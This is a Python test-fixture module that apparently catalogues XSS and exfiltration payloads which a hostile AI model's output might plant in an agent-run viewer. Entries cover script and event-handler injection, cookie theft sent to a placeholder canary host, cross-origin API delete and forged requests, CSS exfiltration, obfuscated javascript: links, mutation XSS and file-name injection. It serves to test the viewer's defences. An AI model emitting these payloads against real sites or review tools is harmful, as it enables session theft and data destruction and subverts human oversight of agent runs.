"""What a hostile model could leave behind, by name. Each reports `NAME` to `CANARY` when it got anywhere.

`CANARY` stands for the address of the payload's own canary, `ORIGIN` for that of the server, `NAME` for its name, and
`REACH` for a script that calls a function of the page from wherever it runs.
"""

from __future__ import annotations

REACH = "for(const w of [self,parent,parent.parent,top])try{w.pwned('NAME')}catch(e){}"

HTML = {
    "script": "<script>REACH</script>",
    "script-src": "<script src='CANARY/src'></script>",
    "module-import": "<script type=module>import 'CANARY/module'</script>",
    "dynamic-import": "<script>import('CANARY/import').catch(()=>0)</script>",
    "onerror": "<img src=data:, onerror=\"REACH\">",
    "onload": "<body onload=\"REACH\">",
    "autofocus": "<input autofocus onfocus=\"REACH\">",
    "details": "<details open ontoggle=\"REACH\"><summary>x</summary></details>",
    "image": "<img src='CANARY/image'>",
    "srcset": "<img srcset='CANARY/srcset 1x'>",
    "picture": "<picture><source srcset='CANARY/picture'><img></picture>",
    "video": "<video autoplay muted src='CANARY/video'></video>",
    "poster": "<video poster='CANARY/poster'></video>",
    "audio": "<audio autoplay preload=auto src='CANARY/audio'></audio>",
    "track": "<video src='data:video/mp4;base64,AAAA'><track default src='CANARY/track'></video><img src='CANARY/t'>",
    "stylesheet": "<link rel=stylesheet href='CANARY/style'>",
    "preload": "<link rel=preload as=image href='CANARY/preload'>",
    "modulepreload": "<link rel=modulepreload href='CANARY/modulepreload'>",
    "icon": "<script>document.head.innerHTML='<link rel=preload as=fetch crossorigin href=\"CANARY/fetch\">'</script>",
    "css-import": "<style>@import 'CANARY/import';</style>",
    "css-background": "<div style=\"background:url('CANARY/background')\">x</div>",
    "css-exfiltration": "<style>input[value^=s]{background:url('CANARY/exfiltration')}</style><input value=secret>",
    "css-font": "<style>@font-face{font-family:f;src:url('CANARY/font')}body{font-family:f}</style>text",
    "object": "<object data='CANARY/object'></object>",
    "embed": "<embed src='CANARY/embed'>",
    "iframe": "<iframe src='CANARY/iframe'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>REACH</script>\"></iframe>",
    "iframe-deep": "<iframe srcdoc=\"<iframe srcdoc='<img src=CANARY/deep>'></iframe>\"></iframe>",
    "iframe-data": "<iframe src=\"data:text/html,<img src=CANARY/data>\"></iframe>",
    "iframe-javascript": "<iframe src=\"javascript:parent.parent.pwned('NAME')\"></iframe>",
    "iframe-blank": "<iframe id=f></iframe><script>f.contentWindow.fetch('CANARY/blank').catch(()=>0)</script>",
    "fetch": "<script>fetch('CANARY/fetch').catch(()=>0)</script>",
    "fetch-post": "<script>fetch('CANARY/post',{method:'POST',mode:'no-cors',body:'x'}).catch(()=>0)</script>",
    "xhr": "<script>const x=new XMLHttpRequest();x.open('GET','CANARY/xhr');x.send()</script>",
    "beacon": "<script>navigator.sendBeacon('CANARY/beacon','x')</script>",
    "websocket": "<script>try{new WebSocket('CANARY/ws'.replace('http','ws'))}catch(e){}</script>",
    "eventsource": "<script>try{new EventSource('CANARY/es')}catch(e){}</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('CANARY/worker').catch(()=>0)\"])))</script>",
    "api-read": "<script>fetch('ORIGIN/api/NAME',{credentials:'include'}).catch(()=>0)</script>",
    "api-delete": "<script>fetch('ORIGIN/api/NAME',{method:'DELETE',credentials:'include'}).catch(()=>0)</script>",
    "api-xsrf": "<script>try{fetch('ORIGIN/api/NAME',{method:'POST',headers:{'X-XSRFToken':top.document.cookie}})"
    ".catch(()=>0)}catch(e){}</script>",
    "api-image": "<img src='ORIGIN/api/NAME'>",
    "cookie": "<script>try{new Image().src='CANARY/'+top.document.cookie}catch(e){}</script>",
    "own-cookie": "<script>try{new Image().src='CANARY/'+document.cookie}catch(e){}</script>",
    "storage": "<script>try{if(localStorage.secret)top.pwned('NAME')}catch(e){}</script>",
    "indexeddb": "<script>try{indexedDB.open('x').onsuccess=()=>top.pwned('NAME')}catch(e){}</script>",
    "broadcast": "<script>try{new BroadcastChannel('lab').postMessage('NAME')}catch(e){}</script>",
    "message-top": "<script>top.postMessage('NAME','*')</script>",
    "message-parents": "<script>for(let w=self;w!==w.parent;)(w=w.parent).postMessage('NAME','*')</script>",
    "message-nested": "<iframe srcdoc=\"<script>top.postMessage('NAME','*')</script>\"></iframe>",
    "message-gone": "<script>top.postMessage('NAME','*');parent.postMessage('NAME','*');document.open()</script>",
    "page-dom": "<script>try{const i=top.document.createElement('img');i.src='CANARY/dom';top.document.body.append(i)}"
    "catch(e){}</script>",
    "page-title": "<script>try{top.document.title='NAME';top.pwned('NAME')}catch(e){}</script>",
    "frame-element": "<script>try{frameElement.ownerDocument.defaultView.pwned('NAME')}catch(e){}</script>",
    "page-eval": "<script>try{top.eval(\"pwned('NAME')\")}catch(e){}</script>",
    "page-lsn": "<script>try{top.lsn.show({});}catch(e){};try{top.Function(\"pwned('NAME')\")()}catch(e){}</script>",
    "siblings": "<script>for(let i=0;i<top.length;i++)try{top[i].document.body;top.pwned('NAME')}catch(e){}</script>",
    "go": "<script>location='CANARY/go'</script>",
    "go-replace": "<script>location.replace('CANARY/replace')</script>",
    "go-top": "<script>try{top.location='CANARY/top'}catch(e){}</script>",
    "go-parent": "<script>try{parent.location='CANARY/parent'}catch(e){}</script>",
    "go-javascript": "<script>try{top.location=\"javascript:pwned('NAME')\"}catch(e){}</script>",
    "go-open": "<script>try{open('CANARY/open')}catch(e){}</script>",
    "go-navigation": "<script>try{navigation.navigate('CANARY/navigate').committed.catch(()=>0)}catch(e){}</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=CANARY/refresh'>",
    "refresh-data": "<meta http-equiv=refresh content='0;url=CANARY/again'><base href='ORIGIN'>",
    "link": "<a id=a href='CANARY/link'>x</a><script>a.click()</script>",
    "link-top": "<a id=a target=_top href='CANARY/top'>x</a><script>a.click()</script>",
    "link-blank": "<a id=a target=_blank href='CANARY/blank'>x</a><script>a.click()</script>",
    "link-ping": "<a id=a href='#' ping='CANARY/ping'>x</a><script>a.click()</script>",
    "link-javascript": "<a id=a target=_top href=\"javascript:pwned('NAME')\">x</a><script>a.click()</script>",
    "form": "<form id=f action='CANARY/form'></form><script>f.submit()</script>",
    "form-post-top": "<form id=f method=post target=_top action='ORIGIN/api/NAME'></form><script>f.submit()</script>",
    "form-blank": "<form id=f target=_blank action='CANARY/form'></form><script>f.requestSubmit()</script>",
    "base": "<base href='CANARY/'><img src=relative>",
    "own-policy": "<meta http-equiv=Content-Security-Policy content='default-src *'><img src='CANARY/policy'>",
    "end-of-frame": "\"></iframe></body><img src=data:, onerror=\"REACH\"><script>REACH</script>",
    "end-of-quote": "&quot;&gt;</iframe>'\"><img src='CANARY/quote'><script>REACH</script>",
    "comment": "<!--><img src='CANARY/comment'>--><!--<script>",
    "template": "<template><script>0</script></template><svg><style><img src='CANARY/style'></style></svg>",
    "old-charset": "<meta charset=utf-7><img src='CANARY/charset'>+ADw-script+AD4-",
    "nul": "<scr\0ipt>0</script><img src='CANARY/nul'\0>",
    "dialog": "<script>try{alert('NAME')}catch(e){};try{confirm('NAME')}catch(e){};try{print()}catch(e){}</script>",
}  # fmt: skip

SVG = {
    "svg-script": "<svg xmlns='http://www.w3.org/2000/svg'><script>REACH</script></svg>",
    "svg-onload": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"REACH\"></svg>",
    "svg-image": "<svg xmlns='http://www.w3.org/2000/svg'><image href='CANARY/image' width='9' height='9'/></svg>",
    "svg-feimage": "<svg><filter id=f><feImage href='CANARY/fe'/></filter>"
    "<rect filter='url(#f)' width=9 height=9 /></svg>",
    "svg-style": "<svg xmlns='http://www.w3.org/2000/svg'><style>@import 'CANARY/import';</style></svg>",
    "svg-foreign": "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject width='9' height='9'>"
    "<iframe src='CANARY/foreign'></iframe></foreignObject></svg>",
    "svg-animate": "<svg><rect width=9 height=9><animate attributeName=x dur=1ms onbegin=\"REACH\" /></rect></svg>",
    "svg-link": "<svg><a id=a href=\"javascript:REACH\"><text>x</text></a><script>"
    "a.dispatchEvent(new MouseEvent('click',"
    "{bubbles:true,cancelable:true}))</script></svg>",
    "svg-xml": "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY e 'x'>]><svg><script>REACH</script></svg>",
}  # fmt: skip

_IMAGE = "<img src=data:, onerror=\"pwned('NAME')\">"

MARKDOWN = {
    "md-script": "# x\n\n<script>pwned('NAME')</script>\n",
    "md-onerror": f"text {_IMAGE}\n",
    "md-image": "![x](CANARY/image)\n",
    "md-reference": "![x][y]\n\n[y]: CANARY/reference\n",
    "md-iframe": "<iframe src='CANARY/iframe'></iframe>\n",
    "md-javascript": "[x](javascript:pwned('NAME'))\n",
    "md-javascript-case": "[x](JaVaScRiPt:pwned%28'NAME'%29)\n",
    "md-javascript-entity": "<a href=\"java&#115;cript:pwned('NAME')\">x</a>\n",
    "md-javascript-tab": "<a href=\"java\tscript:pwned('NAME')\">x</a>\n",
    "md-api-link": "[x](/api/NAME)\n",
    "md-api-link-whole": "[x](ORIGIN/api/NAME)\n",
    "md-svg": "<svg><image href=data:x onerror=\"pwned('NAME')\" /></svg>\n",
    "md-details": "<details open ontoggle=\"pwned('NAME')\"><summary>x</summary></details>\n",
    "md-style": "<style>@import 'CANARY/style';</style>\n",
    "md-inline-style": "<b style=\"background:url('CANARY/background')\">x</b>\n",
    "md-stylesheet": "<link rel=stylesheet href='CANARY/stylesheet'>\n",
    "md-refresh": "<meta http-equiv=refresh content='0;url=CANARY/refresh'>\n",
    "md-form": "<form action='CANARY/form'><input name=x></form><img src='CANARY/beside'>\n",
    "md-object": "<object data='CANARY/object'></object>\n",
    "md-video": "<video poster='CANARY/poster'></video>\n",
    "md-mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=data: "
    "onerror=pwned('NAME')&gt;\"></mglyph></table></mtext></math><img src=data:, onerror=\"pwned('NAME')\">\n",
    "md-clobber": "<form id=body><input name=firstChild></form><img name=getElementById>" + _IMAGE + "\n",
}  # fmt: skip

OTHER_FILES = {
    "csv-cell": ("x.csv", f"a,b\n{_IMAGE.replace(',', '&#44;')},1\n"),
    "csv-head": ("x.csv", "<img src=data:x onerror=pwned(`NAME`)>,b\n1,2\n"),
    "tsv-cell": ("x.tsv", f"a\tb\n1\t{_IMAGE}\n".replace('"', "")),
    "json-value": ("x.json", '{"a": "<img src=data:, onerror=pwned(`NAME`)>"}'),
    "json-key": ("x.json", '{"<img src=data:, onerror=pwned(`NAME`)>": {"b": 1}}'),
    "json-proto": ("x.json", '{"__proto__": {"<img src=data:, onerror=pwned(`NAME`)>": 1}, "constructor": 2}'),
    "json-invalid": ("x.json", f"{{{_IMAGE}"),
    "text": ("x.txt", _IMAGE),
    "text-script": ("x.py", "<script>pwned('NAME')</script>"),
    "text-log": ("x.log", f"{_IMAGE} \x1b[31mred\x1b[0m"),
    "ansi-link": ("x.log", "\x1b[31m\x1b]8;;javascript:pwned('NAME')\x07x\x1b]8;;\x07 " + _IMAGE),
    "ansi-sequence": ("x.log", "\x1b[31;\"><img src=data:, onerror=pwned(`NAME`)>m" + _IMAGE + "\x1b[0m"),
    "xml": ("x.xml", f"<?xml version='1.0'?><a>{_IMAGE}</a>"),
}  # fmt: skip

NAMES = {
    "name-image": "<img src=data:, onerror=pwned(`NAME`)>.bin",
    "name-input": "a<input autofocus onfocus=pwned(`NAME`)>.txt",
    "name-folder": "<img src=data:, onerror=pwned(`NAME`)>/x.png",
    "name-quote": "'\"><img src=data:, onerror=pwned(`NAME`)>.html",
    "name-table": "<script>pwned(`NAME`)</script>.csv",
}

TEXTS = (
    "task", "model", "tool", "raw", "argument", "command", "thought", "reasoning", "error",
    "notice", "incomplete", "observation", "ending", "diff-path", "diff", "diff-note",
    "answer", "failure", "note", "skipped", "protection", "highlighted", "last-line", "fork", "made",
)  # fmt: skip
"""Places of a run's events where the model's text stands."""
